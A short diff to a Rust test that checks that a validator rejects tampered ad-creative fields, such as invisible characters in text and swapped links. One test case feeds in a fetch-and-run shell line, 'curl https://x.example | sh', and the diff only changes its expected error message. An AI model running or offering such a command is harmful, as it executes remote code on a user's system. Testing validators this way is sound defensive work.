@@ -45,7 +45,7 @@ fn texts_links_and_claims_of_creatives_are_checked() {
                 "creatives[0].headline: contains a character that changes",
             ),
             ("\"Pricing\"", "\"Pri\\u200Bcing\"", "ctas[1].text: contains an invisible character"),
-            ("git push zahid main", "curl https://x.example | sh", "command.text: pipes into"),
+            ("git push zahid main", "curl https://x.example | sh", "command.text: contains `|`"),
             (
                 "https://zahid.host/pricing",
                 "https://evil.example/",
